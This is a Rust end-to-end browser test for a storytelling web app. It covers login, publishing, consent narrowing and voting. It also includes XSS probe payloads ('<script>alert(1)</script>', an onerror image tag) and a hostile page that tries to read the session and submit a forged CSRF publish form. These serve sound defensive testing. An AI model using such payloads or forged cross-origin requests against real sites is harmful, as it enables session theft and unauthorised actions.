//! The web app in a real browser: a headless Chromium, driven through `chromedriver`
//! (WebDriver), against two real daemons that are both founders of one storytelling pod.
//! Everything the storyteller does goes through the pages and their forms, as a person
//! would click it; what the other member's node holds is read over its own API. It shows:
//!
//! 1. The login link signs the browser in; the publish form, with every one of the pod's
//!    principles and community sharing ticked, publishes a story visible to the pod; the
//!    browser lands on the story's page, and the other member's node comes to hold it.
//! 2. The edit page narrows the story's consent (community sharing unticked, visibility
//!    private): the other member's node purges the earlier version and no longer serves its
//!    text. Before that, a form with a principle unticked is refused with an alert, and what
//!    was typed is still in the form.
//! 3. A proposal the other member opened is voted on with the radio buttons and the vote
//!    button: the page says "You voted yes.", and the other member's node counts the vote.
//! 4. A story whose title and text hold `<script>` and `<img onerror>` is shown as that text:
//!    the heading's text is the literal title, the text shows the literal markup, no image is
//!    made of it and no dialog opens.
//! 5. A page from another local port, in the same signed-in browser, can neither read the
//!    session's CSRF token (`fetch` with credentials fails) nor publish through the session
//!    with a posted form (the API answers 403, and no such story exists).
//! 6. Screenshots of the publish form, a story, my dashboard and the transparency page at
//!    1280 pixels go to `target/artifacts/web-app/` (and to `$MYCO_DOC_SCREENSHOTS` if set).
//!
//! Needs Chromium and chromedriver (CI installs Debian's `chromium` and `chromium-driver`);
//! without them the test says why and skips.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{Ipv4Addr, TcpListener};
use std::path::PathBuf;
use std::sync::{Arc, Mutex};

use myco_node::api::types::ConsentBody;
use myco_node::api::views::{FeedView, StoryView};
use myco_tests::browser::{artifacts_dir, Browser};
use myco_tests::loopback::{holds, wait_until, STORYTELLING_PRINCIPLES};
use myco_tests::storyteller::{hash_of, myco, storytelling_pod};

/// The record hash at the end of a story page's address, `{base}/app/stories/{hash}`.
fn story_hash(browser: &Browser, base: &str) -> String {
    let url = browser.url();
    let hash = url
        .strip_prefix(&format!("{base}/app/stories/"))
        .unwrap_or_else(|| {
            panic!(
                "the browser is not on a story page but on {url}: {}",
                browser.text("body")
            )
        });
    assert!(hash.starts_with("act_"), "{url}");
    hash.to_string()
}

/// Fills the story form on the page: `title`, `body`, `visibility`, only the consent
/// `consent` grants, and every one of the pod's principles.
fn fill_story(browser: &Browser, title: &str, body: &str, visibility: &str, consent: &[&str]) {
    browser.type_into("#title", title);
    browser.type_into("#body", body);
    browser.type_into("#kind", "story");
    browser.select("#visibility", visibility);
    for flag in ConsentBody::FLAGS {
        browser.set_checked(&format!("#consent-{flag}"), consent.contains(&flag));
    }
    for principle in STORYTELLING_PRINCIPLES {
        browser.set_checked(&format!("#principle-{principle}"), true);
    }
}

/// A page on another local port that tries to use the browser's session on the API at `api`:
/// it reads `/session` with `fetch` (credentials included), reports what it got to its own
/// server (`POST /report`), then posts a publish form to the API with a made-up CSRF token.
fn hostile_page(api: &str, pod: &str, title: &str) -> String {
    format!(
        r#"<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>another page</title></head>
<body>
<p id="result">waiting</p>
<form id="attack" method="post" action="{api}/app/pods/{pod}/publish">
<input type="hidden" name="csrf" value="made-up-token">
<input type="hidden" name="title" value="{title}">
<input type="hidden" name="body" value="written by another page">
<input type="hidden" name="kind" value="story">
<input type="hidden" name="visibility" value="pod">
<input type="hidden" name="consent" value="community_sharing">
{principles}
</form>
<script>
fetch("{api}/session", {{credentials: "include"}})
  .then(r => r.text())
  .then(text => "got:" + text, error => "blocked:" + error)
  .then(result => {{
    document.title = result;
    document.getElementById("result").textContent = result;
    return fetch("/report", {{method: "POST", body: result}});
  }})
  .catch(() => {{}})
  .finally(() => document.getElementById("attack").submit());
</script>
</body></html>"#,
        principles = STORYTELLING_PRINCIPLES
            .iter()
            .map(|p| format!(r#"<input type="hidden" name="principle" value="{p}">"#))
            .collect::<String>(),
    )
}

/// Serves `page` at `/` of a new 127.0.0.1 port, and keeps what is posted to `/report`;
/// returns the page's address and the report once it arrives. The server's thread ends with
/// the test's process.
fn serve_hostile_page(page: String) -> (String, Arc<Mutex<Option<String>>>) {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("bind");
    let address = format!("http://{}/", listener.local_addr().expect("address"));
    let report = Arc::new(Mutex::new(None));
    let kept = report.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut reader = BufReader::new(&stream);
            let mut request_line = String::new();
            if reader.read_line(&mut request_line).is_err() {
                continue;
            }
            let mut length = 0;
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).is_err() || line.trim().is_empty() {
                    break;
                }
                if let Some((name, value)) = line.split_once(':') {
                    if name.eq_ignore_ascii_case("content-length") {
                        length = value.trim().parse().unwrap_or(0);
                    }
                }
            }
            let mut body = vec![0; length];
            let _ = reader.read_exact(&mut body);
            let (content_type, answer) = if request_line.starts_with("POST /report") {
                *kept.lock().expect("report") = Some(String::from_utf8_lossy(&body).into_owned());
                ("text/plain", String::from("thanks"))
            } else if request_line.starts_with("GET / ") {
                ("text/html; charset=utf-8", page.clone())
            } else {
                ("text/plain", String::from("not here"))
            };
            let _ = write!(
                &stream,
                "HTTP/1.1 200 OK\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{answer}",
                answer.len()
            );
        }
    });
    (address, report)
}

#[test]
fn a_storyteller_publishes_narrows_votes_and_stays_safe_in_a_real_browser() {
    let browser = match Browser::start() {
        Ok(browser) => browser,
        Err(why) => {
            eprintln!("skipping: {why}");
            return;
        }
    };
    let artifacts = artifacts_dir("web-app");
    let mut shots: Vec<PathBuf> = Vec::new();
    let (net, pod) = storytelling_pod(2, "browser");
    let (api0, api1) = (&net.daemons[0].api, &net.daemons[1].api);

    // 1. Sign in with the link; "my pods" lists the pod.
    let base = browser.sign_in(&net.dir(0), "/app");
    assert_eq!(
        browser
            .find_all(&format!("main a[href='/app/pods/{pod}']"))
            .len(),
        1,
        "my pods lists the pod: {}",
        browser.text("main")
    );

    // Publish through the form: it offers exactly the pod's principles.
    browser.goto(&format!("{base}/app/pods/{pod}/publish"));
    let mut offered: Vec<String> = browser
        .find_all("form#publish input[name=principle]")
        .iter()
        .map(|e| {
            browser
                .block_on(e.attr("value"))
                .expect("value")
                .unwrap_or_default()
        })
        .collect();
    offered.sort();
    let mut required: Vec<&str> = STORYTELLING_PRINCIPLES.to_vec();
    required.sort();
    assert_eq!(offered, required, "the form offers the pod's principles");
    let csrf = browser
        .attr("form#publish input[name=csrf]", "value")
        .expect("the form carries the session's CSRF token");
    let title = "The river crossing";
    let text = "Grandmother told it at the ford, every spring, in her own words.";
    fill_story(&browser, title, text, "pod", &["community_sharing"]);
    let shot = artifacts.join("publish.png");
    browser.screenshot(&shot);
    shots.push(shot);
    browser.click_through("#submit");
    let first = story_hash(&browser, &base);
    assert_eq!(browser.text("main h1"), title);
    assert_eq!(browser.text("div.body"), text);
    assert!(
        browser.find_all("#edit").len() == 1,
        "the author may edit it"
    );
    let shot = artifacts.join("story.png");
    browser.screenshot(&shot);
    shots.push(shot);

    // The other member's node, over the real network, holds it and serves its text.
    wait_until("the other member's node to hold the story", || {
        holds(api1, &first)
    });
    let theirs: StoryView = api1
        .get(&format!("/content/{first}"))
        .expect("the story on daemon 1");
    assert_eq!((theirs.title.as_str(), theirs.body.as_str()), (title, text));
    assert_eq!(theirs.visibility, "pod", "{theirs:?}");

    // 2. The edit page holds the story as it is.
    browser.click_through("#edit");
    assert_eq!(
        browser.url(),
        format!("{base}/app/stories/{first}/edit"),
        "the edit link"
    );
    assert_eq!(browser.value("#title"), title);
    assert_eq!(browser.value("#visibility"), "pod");
    assert!(browser.is_checked("#consent-community_sharing"));
    assert!(!browser.is_checked("#consent-public_sharing"));
    for principle in STORYTELLING_PRINCIPLES {
        assert!(browser.is_checked(&format!("#principle-{principle}")));
    }

    // A principle unticked is refused, with the reason, and what was typed stays.
    let retitled = "The river crossing, as she told it";
    browser.type_into("#title", retitled);
    browser.set_checked("#principle-ethics", false);
    browser.click_through("#submit");
    let alert = browser.text("p.notice[role=alert]");
    assert!(
        alert.starts_with("Not saved:"),
        "a refusal is shown: {alert:?} on {}: {}",
        browser.url(),
        browser.text("body")
    );
    assert!(alert.contains("ethics"), "the reason names it: {alert}");
    assert_eq!(browser.value("#title"), retitled, "the typed title stays");
    assert!(!browser.is_checked("#principle-ethics"));
    assert!(browser.is_checked("#principle-responsibility"));

    // Narrowed: the principle back, community sharing unticked, private.
    browser.set_checked("#principle-ethics", true);
    browser.set_checked("#consent-community_sharing", false);
    browser.select("#visibility", "private");
    browser.click_through("#submit");
    let second = story_hash(&browser, &base);
    assert_ne!(second, first, "a new version");
    assert_eq!(browser.text("main h1"), retitled);

    // The other member's node purges the wider earlier version and no longer serves it.
    let earlier_entry = |view: &StoryView| {
        view.versions
            .iter()
            .find(|v| v.hash == first)
            .map(|v| v.entry.clone())
    };
    wait_until(
        "the other member's node to purge the earlier version",
        || {
            api1.get::<StoryView>(&format!("/content/{first}"))
                .is_ok_and(|view| {
                    matches!(earlier_entry(&view).as_deref(), Some("purged" | "not held"))
                })
        },
    );
    let theirs: StoryView = api1.get(&format!("/content/{first}")).expect("story");
    let shown = serde_json::to_string(&theirs).expect("json");
    assert!(!theirs.held, "{shown}");
    assert!(!shown.contains(text), "the text is not served: {shown}");

    // 3. A proposal the other member opened, voted on in the browser.
    let proposal = hash_of(
        &myco(
            &net.dir(1),
            &[
                "propose",
                "--pod",
                &pod,
                "--kind",
                "change_policy",
                "--min-creator-share-bp",
                "8000",
                "--text",
                "Creators keep 80% of what their stories earn.",
            ],
        )
        .ok(),
    );
    wait_until("this node to hold the proposal", || holds(api0, &proposal));
    browser.goto(&format!("{base}/app/pods/{pod}/proposals"));
    browser.click_through(&format!("main a[href='/app/proposals/{proposal}']"));
    assert_eq!(browser.url(), format!("{base}/app/proposals/{proposal}"));
    let status = browser.text("#status");
    assert!(
        status.starts_with("open") && status.contains("0 of 2 took part"),
        "{status}"
    );
    assert!(browser.find_all("#my-vote").is_empty(), "no vote yet");
    browser.click("#choice-yes");
    browser.click_through("#cast");
    assert_eq!(browser.url(), format!("{base}/app/proposals/{proposal}"));
    assert_eq!(browser.text("#my-vote"), "You voted yes.");
    assert!(
        browser.text("#status").contains("1 yes, 0 no, 0 abstain"),
        "{}",
        browser.text("#status")
    );
    wait_until("the other member's node to count the vote", || {
        api1.get_text(&format!("/app/proposals/{proposal}"))
            .is_ok_and(|page| page.contains("1 yes, 0 no, 0 abstain; 1 of 2 took part"))
    });

    // 4. Markup in a story is shown as text: no element, no script, no dialog.
    browser.goto(&format!("{base}/app/pods/{pod}/publish"));
    let hostile_title = "<script>alert(1)</script>";
    let hostile_body = "<b>html</b><img src=x onerror=alert(1)>";
    fill_story(
        &browser,
        hostile_title,
        hostile_body,
        "pod",
        &["community_sharing"],
    );
    browser.click_through("#submit");
    let hostile = story_hash(&browser, &base);
    assert_eq!(browser.text("main h1"), hostile_title);
    assert_eq!(browser.title(), format!("{hostile_title} — Myco"));
    assert!(
        browser.text("div.body").contains(hostile_body),
        "{}",
        browser.text("div.body")
    );
    assert!(browser.find_all("div.body img").is_empty(), "no image made");
    assert!(browser.find_all("div.body b").is_empty(), "no bold made");
    assert!(browser.find_all("img").is_empty(), "no image on the page");
    assert!(
        browser.find_all("script").is_empty(),
        "no script on the page"
    );
    assert_eq!(browser.open_dialog(), None, "no dialog opened");

    // 5. Another local port's page, in the same signed-in browser, gets nothing.
    let forged = "Forged by another page";
    let (hostile_url, report) = serve_hostile_page(hostile_page(&base, &pod, forged));
    browser.goto(&hostile_url);
    wait_until("the other page to report what its fetch got", || {
        report.lock().expect("report").is_some()
    });
    let got = report.lock().expect("report").clone().unwrap_or_default();
    assert!(
        got.starts_with("blocked:"),
        "the other page could read /session: {got}"
    );
    assert!(!got.contains(&csrf), "the CSRF token leaked: {got}");
    // Its form post reaches the API, which refuses it.
    let target = format!("{base}/app/pods/{pod}/publish");
    wait_until("the other page's form to be answered", || {
        browser.url() == target
    });
    let answer = browser.text("body");
    assert!(
        answer.contains("is not this API's own"),
        "the API refuses the other page's post (403): {answer}"
    );
    let feed: FeedView = api0.get(&format!("/pods/{pod}/feed")).expect("feed");
    assert!(
        feed.items.iter().all(|item| item.title != forged),
        "the other page published: {:?}",
        feed.items
    );
    assert!(
        feed.items.iter().any(|item| item.hash == hostile),
        "the feed read holds the stories the browser published: {:?}",
        feed.items
    );

    // 6. Screenshots of my dashboard and the transparency page, at 1280 pixels.
    for (name, path) in [
        ("dashboard", format!("/app/pods/{pod}/dashboard")),
        ("transparency", format!("/pods/{pod}/page")),
    ] {
        browser.goto(&format!("{base}{path}"));
        assert!(
            !browser.text("main h1").is_empty(),
            "{name}: {}",
            browser.text("body")
        );
        let shot = artifacts.join(format!("{name}.png"));
        browser.screenshot(&shot);
        shots.push(shot);
    }
    let docs = std::env::var_os("MYCO_DOC_SCREENSHOTS").map(PathBuf::from);
    for shot in &shots {
        let png = std::fs::read(shot).expect("screenshot");
        assert!(png.starts_with(b"\x89PNG"), "{} is a PNG", shot.display());
        eprintln!("screenshot: {}", shot.display());
        if let Some(docs) = &docs {
            std::fs::create_dir_all(docs).expect("docs folder");
            let copy = docs.join(shot.file_name().expect("name"));
            std::fs::copy(shot, &copy).expect("copy the screenshot");
            eprintln!("screenshot: {}", copy.display());
        }
    }
}
